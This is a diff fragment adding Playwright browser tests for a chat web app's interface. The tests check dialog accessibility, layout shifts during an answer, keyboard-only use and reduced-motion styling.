+        for button in ("As JSON", "Add by URL", "History", "Settings", "Code", "Open receipt.webp"):
+            page.get_by_role("button", name=button).first.click()
+            if button.startswith("Open") and width > 1000:  # it is beside the conversation
+                continue
+            page.get_by_role("dialog").wait_for()
+            accessible(page, button)
+            page.keyboard.press("Escape")
+            page.get_by_role("dialog").wait_for(state="detached")
+        for part in PARTS[1:]:
+            page.get_by_role("button", name=part).click()
+            accessible(page, part)
+
+
+def test_nothing_jumps(browser: Any, server: str) -> None:
+    """What was laid out stays where it is, from the first paint to the answer."""
+    for width in (360, 1280):
+        with opened(browser, server, width) as page:
+            page.evaluate(
+                """() => {
+                    window.jumps = [];
+                    new PerformanceObserver((list) => {
+                        for (const entry of list.getEntries()) {
+                            if (!entry.hadRecentInput) window.jumps.push(entry.value);
+                        }
+                    }).observe({ type: "layout-shift", buffered: true });
+                }"""
+            )
+            page.get_by_role("button", name=re.compile("^A chart")).click()
+            answer(page)
+            assert sum(page.evaluate("window.jumps")) < 0.01
+
+
+def test_by_keyboard_alone(page: Any) -> None:
+    page.keyboard.type("What is it?")  # the field has the focus at first
+    for _ in range(20):
+        page.keyboard.press("Shift+Tab")
+        if page.evaluate("document.activeElement.textContent").startswith("A chart"):
+            break
+    page.keyboard.press("Enter")
+    said = answer(page)
+    assert "April" in said.inner_text()
+    said.get_by_role("button", name="April").first.focus()
+    page.locator(".box.on").wait_for()
+
+
+def test_motion_is_left_out_where_that_is_wanted(browser: Any) -> None:
+    with slow_model() as slow, alone(slow.url) as url:
+        for wanted, moves in (("reduce", "none"), ("no-preference", "pulse")):
+            with opened(browser, url, reduced_motion=wanted) as page:
+                page.get_by_label("Model").select_option("slow")
+                asked(page, "Wait")
+                dot = page.locator(".waiting i").first
+                assert dot.evaluate("i => getComputedStyle(i).animationName") == moves
+                slow.wait()
+                slow.let_go()
+                answer(page)
